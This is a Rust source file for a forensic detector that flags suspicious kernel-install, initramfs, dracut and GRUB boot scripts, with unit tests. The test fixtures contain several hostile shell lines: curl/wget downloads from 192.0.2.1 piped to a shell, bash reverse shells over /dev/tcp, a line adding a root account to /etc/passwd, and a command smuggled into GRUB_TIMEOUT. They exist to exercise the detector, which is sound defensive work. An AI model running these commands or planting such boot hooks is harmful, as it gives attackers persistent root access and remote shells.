//! Detector: a script that makes the boot image, the boot menu or a kernel's installation does something odd.

use crate::weigh::{self, Files};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, Text, kinds::StartupCommand};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "boot-hook",
        doc: "A script that runs when a kernel, a boot image or the boot menu is made, or from within the boot image, does what ordinary ones do not.",
        mechanisms: &[36, 37, 44],
        attack: &["T1542", "T1037", "T1546"],
        why: "It runs as root at every update of the kernel, and what it puts into the boot image runs before the system does.",
        innocent: "you or a program you installed by hand made this script",
        next: "read the script and what it runs; keep both and the boot images of /boot as evidence, and make the images anew when it is gone",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::hooks(tables, &["kernel hook"], "A script of a kernel's installation", drafts);
    weigh::hooks(tables, &["initramfs hook"], "A script of the boot image", drafts);
    weigh::hooks(tables, &["boot menu script"], "A script of the boot menu", drafts);
    copied(tables, drafts);
}

/// Words that copy their first path into the boot image (initramfs-tools(7), dracut.modules(7), mkinitcpio(8)).
const COPIES: &[&[u8]] = &[
    b"copy_exec",
    b"copy_file",
    b"copy_modules_dir",
    b"cp",
    b"install",
    b"ln",
    b"mv",
    b"inst",
    b"inst_simple",
    b"inst_binary",
    b"inst_script",
    b"inst_multiple",
    b"inst_hook",
    b"add_binary",
    b"add_file",
    b"manual_add_modules",
];

/// What a script puts into the boot image runs as root at every boot: odd files among it.
fn copied(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism == "initramfs hook") {
        let described = files.get(&row.path);
        let text = match row.line {
            0 => described.as_ref().and_then(|file| file.fact.text.as_ref()),
            _ => Some(&row.fact.command),
        };
        let lines = text.map(|text| text.as_bytes()).unwrap_or_default().split(|b| b"\n;{}()&|".contains(b));
        for line in lines.take(2000) {
            let mut words = line.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
            if !words.next().is_some_and(|word| COPIES.contains(&word)) {
                continue;
            }
            let Some(source) = words.find(|word| word.starts_with(b"/")).map(Text::from) else { continue };
            let weight = weigh::file(&files, &source, true);
            if weight.severity < Some(Severity::Medium) {
                continue;
            }
            let identity = [b"copied\0", row.path.as_bytes(), b"\0", source.as_bytes()].concat();
            let title = "An odd file is put into the boot image".to_owned();
            let draft = weigh::draft(weight, &identity, title, &row.path, 1, &line.trim_ascii().into(), &row);
            drafts.extend(draft);
        }
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        let files = [
            (
                "/etc/kernel/postinst.d/zz-update-grub",
                "#!/bin/sh\nset -e\nif [ -e /boot/grub/grub.cfg ]; then\n  exec update-grub >&2\nfi\n",
            ),
            ("/etc/grub.d/40_custom", "#!/bin/sh\nexec tail -n +3 $0\n# custom\n"),
            (
                "/etc/grub.d/00_header",
                "#!/bin/sh\nset -e\nprefix=\"/usr\"\ngrub_lang=`echo $LANG | cut -d . -f 1`\n",
            ),
            ("/usr/share/initramfs-tools/hooks/kmod", "#!/bin/sh\ncopy_exec /usr/bin/kmod\n"),
            (
                "/usr/share/initramfs-tools/scripts/functions",
                "log_success_msg()\n{\n\t_log_msg \"Success: $@\\n\"\n}\n",
            ),
            ("/usr/lib/kernel/install.d/50-depmod.install", "#!/bin/sh\nexec depmod -a \"$2\"\n"),
            ("/usr/lib/dracut/modules.d/00systemd/module-setup.sh", "#!/bin/bash\ncheck() { return 0; }\n"),
        ];
        let list: String = files.iter().map(|(path, _)| format!("{path}\n")).collect();
        let mut host = Mem::new().file("/var/lib/dpkg/info/all.list", list);
        for (path, text) in files {
            host = host.file(path, text).owned(path, 0o755, 0, 0);
        }
        host.symlink("/lib", "usr/lib")
            .file("/etc/default/grub", "# If you change this file, run 'update-grub' afterwards\nGRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_DISTRIBUTOR=`( . /etc/os-release; echo ${NAME:-Debian} ) 2>/dev/null || echo Debian`\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\n")
    }

    #[test]
    fn odd_scripts_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/kernel/postinst.d/zz-fw", "#!/bin/sh\n/var/tmp/fw\n"),
            ("/etc/kernel/postrm.d/a", "#!/bin/sh\nwget -qO- http://192.0.2.1/q | bash\n"),
            ("/etc/kernel/install.d/10.install", "#!/bin/sh\necho 'x:0:0::/:/bin/sh' >> /etc/passwd\n"),
            ("/usr/lib/kernel/install.d/60-x.install", "#!/bin/sh\nexit 0\n"),
            ("/usr/share/kernel/postinst.d/x", "#!/bin/sh\nexit 0\n"),
            (
                "/etc/initramfs-tools/hooks/net",
                "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /dev/shm/.n /sbin/n\n",
            ),
            (
                "/etc/initramfs-tools/scripts/init-bottom/z",
                "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
            ),
            ("/usr/share/initramfs-tools/hooks/zlib", "#!/bin/sh\ncopy_exec /usr/bin/zl\n"),
            ("/usr/share/initramfs-tools/scripts/local-bottom/q", "#!/bin/sh\ntrue\n"),
            ("/etc/initramfs-tools/conf.d/x", "RESUME=none\n/tmp/.a &\n"),
            ("/usr/lib/dracut/modules.d/99net/hook.sh", "#!/bin/sh\n/var/tmp/n &\n"),
            ("/usr/lib/dracut/modules.d/99net/n", "\x7fELF\x02\0"),
            (
                "/usr/lib/dracut/modules.d/98fs/module-setup.sh",
                "#!/bin/bash\ncheck() { return 0; }\ninstall() { inst /usr/share/.f/n /sbin/n; }\n",
            ),
            ("/etc/dracut.conf.d/z.conf", "add_drivers+=\" x \"\ncurl http://192.0.2.1/z | sh\n"),
            ("/etc/grub.d/42_menu", "#!/bin/sh\n/dev/shm/m\n"),
            ("/etc/grub.d/40_custom", "#!/bin/sh\nnohup /var/tmp/g &\nexec tail -n +3 $0\n"),
            ("/etc/grub.d/43_b", "\x7fELF\x02"),
            ("/etc/default/grub", "GRUB_DEFAULT=0\nGRUB_TIMEOUT=$(curl -s http://192.0.2.1/t | sh)\n"),
            ("/etc/default/grub.d/50-cloud.cfg", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n"),
        ] {
            let seen = check(debian().file(path, text).owned(path, 0o755, 0, 0));
            let found = seen.alarms("boot-hook");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn packages_and_administrators_scripts_are_no_alarm() {
        let seen = check(
            debian()
                .file("/etc/kernel/postinst.d/zz-copy-efi", "#!/bin/sh\ncp /boot/vmlinuz-\"$1\" /boot/efi/EFI/debian/vmlinuz\n")
                .owned("/etc/kernel/postinst.d/zz-copy-efi", 0o755, 0, 0)
                .file("/etc/initramfs-tools/hooks/dropbear-key", "#!/bin/sh\nPREREQ=\"\"\nprereqs() { echo \"$PREREQ\"; }\ncase $1 in prereqs) prereqs; exit 0;; esac\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/sbin/cryptsetup /sbin\n")
                .owned("/etc/initramfs-tools/hooks/dropbear-key", 0o755, 0, 0)
                .file("/etc/initramfs-tools/initramfs.conf", "MODULES=most\nBUSYBOX=auto\nCOMPRESS=zstd\n")
                .file("/etc/initramfs-tools/conf.d/resume", "RESUME=UUID=1-2-3\n")
                .file("/etc/default/grub.d/serial.cfg", "GRUB_CMDLINE_LINUX=\"$GRUB_CMDLINE_LINUX console=ttyS0,115200\"\nGRUB_TERMINAL=\"console serial\"\n")
                .file("/etc/dracut.conf.d/local.conf", "hostonly=\"yes\"\nadd_dracutmodules+=\" crypt \"\n"),
        );
        assert!(seen.by("boot-hook").is_empty(), "{:#?}", seen.findings);
        // dracut(8) knows no other place.
        let path = "/usr/lib/dracut/modules.d/98shop/module-setup.sh";
        let text = "#!/bin/bash\ncheck() { return 0; }\ndepends() { echo network; }\ninstall() { inst /sbin/mdadm; }\n";
        let seen = check(debian().file(path, text).owned(path, 0o755, 0, 0));
        assert!(seen.alarms("boot-hook").is_empty(), "{:#?}", seen.findings);
    }
}
